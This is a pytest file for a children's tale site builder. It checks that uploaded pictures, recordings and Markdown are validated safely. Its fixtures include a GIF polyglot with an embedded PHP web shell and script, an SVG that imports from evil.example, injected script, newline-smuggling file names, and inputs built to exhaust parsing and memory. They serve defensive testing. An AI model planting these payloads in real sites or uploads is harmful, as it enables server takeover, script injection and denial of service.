"""What an author's text, pictures and recordings cannot do to the site, and what is not lost in silence."""

import os
import re
import resource
import struct
import unicodedata

import pytest

from library import PICTURE, differences, sound, tale

GIF = b"GIF89a\x04\x00\x03\x00\x00\x00\x00,\x00\x00\x00\x00\x04\x00\x03\x00\x00\x02\x02D\x01\x00;<?php system($_GET['c']); ?><script>alert(1)</script>"
NAME = re.compile(r"[a-z0-9-]+\.[0-9a-z]{8}\.[a-z0-9]+")


def published(site):
    return sorted(name.removeprefix("tales/lapsa/") for name in site.tree() if name.startswith("tales/lapsa/"))


@pytest.mark.parametrize("name", [
    "shell.php", "page.html", "code.js", "files.json", ".htaccess.x", "1", "1.gif\n0 keep", "a'b\"c.p h", "1.svgz", "1.GIF%", "x.gif?y",
])
def test_a_picture_is_published_under_the_ending_of_what_it_is(library, name):
    name = name.lstrip(".")
    address = "".join(f"%{byte:02x}" for byte in name.encode())
    site = library(tale(text=f"Reiz ![Lapsa]({address}) gāja."))
    site.path(f"tales/lapsa/{name}").write_bytes(GIF)
    outcome = site.build().good()
    assert outcome.codes == ["wrong-ending"] and "GIF" in outcome.diagnostics[0].message and ".gif'" in outcome.diagnostics[0].notes[0]
    pictures = [found for found in published(site) if found not in ("index.html", "files.json")]
    assert len(pictures) == 1 and NAME.fullmatch(pictures[0]) and pictures[0].endswith(".gif"), \
        f"a server would run or serve it as something else: {pictures}"
    assert f'tales/lapsa/{pictures[0]}"' in site.page("lapsa")


def test_a_picture_with_a_known_ending_of_its_format_is_published_as_before(library):
    site = library(tale(text="Reiz ![Lapsa](Lapsa.GIF) gāja."))
    site.path("tales/lapsa/Lapsa.GIF").write_bytes(GIF)
    assert site.build().good().diagnostics == []
    assert any(re.fullmatch(r"lapsa\.\w{8}\.gif", name) for name in published(site))


def test_a_recording_with_another_format_s_ending_is_said(library):
    site = library(tale(more="voices: [{id: anna, name: Anna, audio: anna}]\n"))
    site.path("tales/lapsa/anna.m4a").write_bytes(sound(1))
    outcome = site.build().good()
    assert outcome.codes == ["wrong-ending"] and "WAV" in outcome.diagnostics[0].message
    assert any(name.endswith(".wav") for name in published(site)), "browsers would be offered it as M4A"


def test_a_voice_without_a_recording_is_said_beside_a_warning_for_a_longer_name(library):
    site = library(tale(more="voices: [{id: anna, name: Anna, audio: anna}, {id: an, name: An, audio: an}]\n"))
    site.path("tales/lapsa/anna.m4a").write_bytes(sound(1))
    assert site.build().codes == ["wrong-ending", "missing-file"], "the voice would be gone without a word"


@pytest.mark.parametrize(("picture", "place"), [
    ('<svg viewBox="0 0 4 3">\n<path d="M0 0"/></svg>\n', (1, 1)),
    ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 4 3">\n<path d="M0 0"/>', (2, 17)),
    ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 4 3">\n<g></svg>', (2, 6)),
    (PICTURE + PICTURE, (2, 1)),
    ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 4 3">\n<g id="\ufffe"/></svg>\n', (2, 8)),
])
def test_an_svg_that_no_browser_shows_is_an_error_at_its_place(library, picture, place):
    site = library(tale(text="![Lapsa](1.svg)\n\nReiz."))
    site.path("tales/lapsa/1.svg").write_text(picture)
    diagnostic = site.build().diagnostics[0]
    assert (diagnostic.severity, diagnostic.code) == ("error", "not-a-picture") and diagnostic.notes
    assert (diagnostic.location.line, diagnostic.location.column) == place


def test_an_svg_in_a_style_in_a_style_fetches_nothing(library):
    site = library(tale(text="![Lapsa](1.svg)\n\nReiz."))
    site.path("tales/lapsa/1.svg").write_text(
        PICTURE.replace("</svg>", "<style><style></style>@import url(http://evil.example/x);</style></svg>"))
    assert site.build().codes == ["active-picture"]


@pytest.mark.parametrize("written", ["NFC", "NFD"])
@pytest.mark.parametrize("kept", ["NFC", "NFD"])
def test_a_picture_is_found_whatever_form_of_unicode_its_name_has(library, written, kept):
    name = "bildē/ābols é.svg"
    text = f"![Lapsa](<{unicodedata.normalize(written, name)}>)\n\nReiz."
    site = library(tale(text=text, more=f"cover: {unicodedata.normalize(written, name)}\n") + tale("vilks"))
    path = site.path("tales/lapsa/" + unicodedata.normalize(kept, name))
    path.parent.mkdir()
    path.write_text(PICTURE)
    assert site.build().good().diagnostics == []
    assert "abols-e." in site.page("vilks"), "the tale before does not show the cover"


@pytest.mark.parametrize(("one", "other"), [
    ("Parents.md", "parents.md"), ("about us.md", "about-us.md"),
    (unicodedata.normalize("NFC", "pār.md"), unicodedata.normalize("NFD", "pār.md")),
])
def test_two_plain_pages_of_one_address_are_an_error_that_names_both(library, one, other):
    site = library(tale())
    site.path("pages").mkdir()
    for name in (one, other):
        (site.path("pages") / name).write_text(f"---\ntitle: {name}\n---\n\nTeksts.\n")
    outcome = site.build()
    assert outcome.status == 1 and outcome.codes == ["duplicate-slug"], "one of the two pages is lost"
    said = outcome.diagnostics[0].location.file + outcome.diagnostics[0].message
    assert f"pages/{one}" in said and f"pages/{other}" in said


def test_a_recording_of_a_page_with_a_zero_before_its_number_is_said(library):
    text = "Viens.\n\n---\n\nDivi."
    site = library(tale(text=text, more="voices: [{id: anna, name: Anna, audio: anna}]\n")
                   + "-- tales/lapsa/anna/1.wav (1 s) --\n-- tales/lapsa/anna/02.wav (1 s) --\n")
    unused = [diagnostic for diagnostic in site.build().good().diagnostics if diagnostic.code == "unused-file"]
    assert len(unused) == 1 and unused[0].location.file.endswith("02.wav") and "'2.wav'" in unused[0].notes[0]


@pytest.mark.parametrize("text", [
    "Viens.\n⟪---⟫\nDivi.", "Viens.\n⟪--⟫\nDivi.", "Viens\nun.\n⟪-----⟫\n\nDivi.", "Viens.\n\n⟪***⟫\n\nDivi.", "Viens.\n\n⟪----⟫\n\nDivi.",
    "Viens.\n\n⟪- - -⟫\n\nDivi.", "Viens.\n\n⟪--- ⟫\n\nDivi.", "Viens.\n\n⟪ ---⟫\n\nDivi.", "Viens.\n\n⟪___⟫\n\nDivi.",
])
def test_what_looks_like_the_end_of_a_page_and_is_none_is_said(library, text):
    site = library(tale(text=text))
    outcome = site.build().good()
    assert [(diagnostic.severity, diagnostic.code) for diagnostic in outcome.diagnostics] == [("warning", "no-page-break")], \
        "the author's pages become one without a word"
    assert outcome.diagnostics[0].location == site.marks[0] and len(outcome.diagnostics[0].notes) == 2


@pytest.mark.parametrize("text", ["Viens.\n\n---\n\nDivi.", "Virsraksts\n----------\n\nDivi.", "Viens\n===\n\nDivi.", "Viens.\n\n* * *\n\nDivi."])
def test_headings_and_rules_that_are_meant_are_left_alone(library, text):
    assert library(tale(text=text)).build().good().diagnostics == []


@pytest.mark.parametrize("text", [
    "> " * 100 + "⟪>⟫ " + "> " * 900_000 + "x", "- 1. " * 50 + "⟪+⟫ x", "> - " * 50 + "⟪1⟫. " + "- " * 400_000 + "x",
    "⟪R⟫eiz " + "*" * 202 + "x" + "*" * 202, "⟪*⟫" + "*" * 700_000 + "x" + "*" * 700_001,
])
@pytest.mark.parametrize("file", ["tales/vilks/tale.md", "pages/vilks.md"])
def test_lists_quotes_and_emphasis_without_end_are_an_error_at_their_place(library, text, file):
    """A tale of a line of `> > >` made a page of 27 MB."""
    site = library(tale() + f"-- {file} --\n---\ntitle: Vilks\n---\n\n{text[:1_499_000]}\n")
    [diagnostic] = site.build().diagnostics
    assert (diagnostic.severity, diagnostic.code, diagnostic.location) == ("error", "too-deep", site.marks[0])
    assert "more than 100 levels" in diagnostic.message and diagnostic.notes


def test_what_a_text_may_need_is_not_nested_too_deep(library):
    text = "> " * 99 + "*x*\n\n" + "- " * 99 + "x\n\n" + "*" * 198 + "x" + "*" * 198
    assert library(tale(text=text)).build().good().diagnostics == []


@pytest.mark.parametrize(("text", "typed"), [
    ("Reiz [Tur⟪](#Pie meža)⟫ un [te⟪](#pie%20 meža)⟫.", ["[Tur](<#Pie meža>)", "[te](<#pie%20 meža>)"]),
    ("Reiz.\n\n- [*Uz* mežu⟪](#pie meža)⟫", ["[*Uz* mežu](<#pie meža>)"]),
    ("Reiz [tur\nun tur⟪](#vēl (tur) tālu)⟫", ["[…](<#vēl (tur) tālu>)"]),
    ("[a](#pie-meža) [b](<#Pie meža>) [c](#nekur tur) \\[d](#pie meža) [e\\](#pie meža) `[f](#pie meža)` #pie meža", []),
])
def test_a_link_whose_page_has_spaces_is_not_lost_in_silence(library, text, typed):
    site = library(tale(text=f"{text}\n\n---\n\n# Pie meža\n\nKoki.\n\n---\n\n# Vēl (tur) tālu\n\nBeigas."))
    found = [diagnostic for diagnostic in site.build().good().diagnostics if diagnostic.code == "no-link"]
    assert [diagnostic.location for diagnostic in found] == site.marks, "the author's choice is lost"
    assert [diagnostic.notes for diagnostic in found] == [[f"put the name between < and >: {text}"] for text in typed]


@pytest.mark.parametrize(("text", "remedy"), [
    ("![Lapsa⟪](mana lapsa.svg)⟫", "![Lapsa](<mana lapsa.svg>)"), ("![Maza *ruda* lapsa⟪](mana lapsa.svg)⟫", "![Maza *ruda* lapsa](<mana lapsa.svg>)"),
    ("![Lapsa,\nmaza⟪](mana lapsa.svg)⟫", "![…](<mana lapsa.svg>)"), ("Kas?\n\n- [x] ![A⟪](mana lapsa.svg)⟫ a\n- [ ] b", "![A](<mana lapsa.svg>)"),
    ("![Lapsa⟪](1.svg⟫\nReiz.", "write it as"), ("!(Lapsa⟪)[1.svg]⟫", "write it as"), ("![⟪[1.svg]]⟫", "write it as"),
    ("Kas?\n\n- [x] ![A⟪] (⟫1.svg) a\n- [ ] b", "write it as"),
    ("\\![A](mana lapsa.svg) !\\[A](mana lapsa.svg) `![A](1.svg`\n\n!\\[[1.svg]] Nē! (Reiz) [divi] (trīs)!(a)[1]", None),
])
def test_a_picture_that_is_shown_as_text_is_not_lost_in_silence(library, text, remedy):
    site = library(tale(text=f"Reiz.\n\n{text}"))
    found = site.build().good().diagnostics
    assert [diagnostic.code for diagnostic in found] == ["no-picture"] * len(site.marks), "the child sees brackets and no picture"
    assert [diagnostic.location for diagnostic in found] == site.marks
    assert all(remedy in diagnostic.notes[0] for diagnostic in found)


@pytest.mark.parametrize(("file", "text", "remedy"), [
    ("tales/vilks/tale.md", "Lasi [vilku⟪](../Labais vilks/tale.md)⟫.", "[vilku](<../Labais vilks/tale.md>)"),
    ("pages/vilks.md", "Lasi [te⟪](vilks un lapsa.md#sākums)⟫.", "[te](<vilks un lapsa.md#sākums>)"),
    ("pages/vilks.md", "Lasi [te⟪](#Vilks un lapsa)⟫.", "[te](<#Vilks un lapsa>)"),
    ("pages/vilks.md", "Lasi [te](tur un tur).", None),
])
def test_a_link_to_a_file_whose_name_has_spaces_is_not_lost_in_silence(library, file, text, remedy):
    site = library(tale() + f"-- {file} --\n---\ntitle: Vilks\nlanguage: lv\n---\n\n{text}\n")
    found = site.build().good().diagnostics
    assert [(diagnostic.code, diagnostic.location) for diagnostic in found] == [("no-link", mark) for mark in site.marks]
    assert all(diagnostic.notes == [f"put the name between < and >: {remedy}"] for diagnostic in found)


@pytest.mark.parametrize(("text", "count"), [
    ("Reiz ⟪<b>⟫dzīvoja</b> lapsa.", 1), ("⟪<div>Viss.</div>⟫\n\nReiz.", 1), ("Reiz ⟪<br>⟫ un ⟪<br/>⟫.", 2),
    ("Reiz <!-- piezīme --> lapsa.\n\n<!-- vēl\nviena -->\n\nVilks.", 0),
])
def test_html_in_a_tale_is_left_out_and_said(library, text, count):
    site = library(tale(text=text))
    outcome = site.build().good()
    assert outcome.codes == ["left-out-html"] * count
    assert [diagnostic.location for diagnostic in outcome.diagnostics] == site.marks


def test_a_heading_with_html_is_named_as_it_is_shown(library):
    site = library(tale(text="# The <i>Owl</i>\n\nReiz [te](#the-owl)."))
    site.build().good()
    assert 'id="the-owl"' in site.page("lapsa") and "&lt;i&gt;" not in site.page("lapsa")


def test_a_tale_of_an_old_mac_is_read_as_any_other(library):
    """Its lines end with CR alone, which is a line end in CommonMark and in YAML."""
    text = tale(text="# Sākums\n\nReiz dzīvoja lapsa.\nViņa skrēja.\n\n---\n\nBeigas.", more="summary: Par lapsu\n")
    site = library(text)
    site.build("--strict").good()
    before = site.tree()
    file = site.path("tales/lapsa/tale.md")
    file.write_bytes(file.read_bytes().replace(b"\n", b"\r"))
    site.build("--strict").good()
    assert differences(before, site.tree()) == []
    for key in (b"kind: film", b"ages: many"):
        file.write_bytes(text.partition(" --\n")[2].encode().replace(b"\n", b"\r").replace(b"summary: Par lapsu", key))
        [diagnostic] = site.build().diagnostics
        assert (diagnostic.location.file, diagnostic.location.line) == ("tales/lapsa/tale.md", 4)


def test_ages_beyond_all_bounds_do_not_end_the_build(library):
    for ages in ("0-9223372036854775807", "9223372036854775807"):
        assert library(tale(more=f"ages: {ages}\n")).build().status in (0, 1), "a signal"


def test_a_recording_that_claims_more_than_a_day_is_an_error(library):
    site = library(tale(more="voices: [{id: anna, name: Anna, audio: anna}]\n"))
    wave, size = bytearray(sound(0))[:44], 90_000_000
    wave[24:28], wave[40:44] = struct.pack("<I", 1000), struct.pack("<I", size)
    path = site.path("tales/lapsa/anna.wav")
    path.write_bytes(wave)
    os.truncate(path, len(wave) + size)
    outcome = site.build()
    assert outcome.status == 1 and outcome.codes == ["not-a-recording"] and "24 hours" in outcome.diagnostics[0].message


def test_ten_thousand_wrong_links_in_a_line_are_reported_in_time_and_memory(library):
    site = library(tale(text=" ".join(f"[a](x{number})" for number in range(10_000))))
    outcome = site.build(timeout=60)
    assert outcome.status == 1 and outcome.codes[0] == "outside-link"


def theme(picture, body):
    return ("-- site.yml --\ntitle: Pasakas\nlanguages: [lv]\ntheme: mana\n-- themes/mana/theme.yml --\nextends: storybook\n"
            + tale() + f"-- themes/mana/pictures/{picture} --\n{body}")


def test_a_picture_of_a_theme_is_published_under_a_plain_name(library):
    site = library(theme("Big_Tree.svg", PICTURE))
    site.build().good()
    assert all(NAME.fullmatch(name.removeprefix("assets/")) for name in site.tree() if name.startswith("assets/"))
    assert any(name.startswith("assets/big-tree.") for name in site.tree())


@pytest.mark.parametrize(("body", "code"), [
    (PICTURE.replace("<path", "<script>alert(1)</script><path"), "active-picture"), (PICTURE.replace("</svg>", ""), "not-a-picture"),
    ("GIF89a\x04\x00\x03\x00", "not-a-picture"),
])
def test_a_picture_of_a_theme_is_checked_as_an_author_s_is(library, body, code):
    outcome = library(theme("extra.svg", body)).build()
    assert outcome.status == 1 and outcome.codes == [code] and outcome.diagnostics[0].location.file.endswith("pictures/extra.svg")


def test_a_photograph_with_many_endless_lists_takes_no_time(library):
    site = library(tale(text="Reiz ![Lapsa](1.jpg) gāja."))
    fields = b"Exif\0\0II*\0" + struct.pack("<IH", 8, 0xFFFF)
    segment = b"\xff\xe1" + struct.pack(">H", 2 + len(fields)) + fields
    size = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, 30, 40, 1) + b"\1\x11\0"
    site.path("tales/lapsa/1.jpg").write_bytes(b"\xff\xd8" + segment * 200_000 + size + b"\xff\xd9")
    before = resource.getrusage(resource.RUSAGE_CHILDREN).ru_utime
    site.run("check", "library").good()
    assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_utime - before < 8
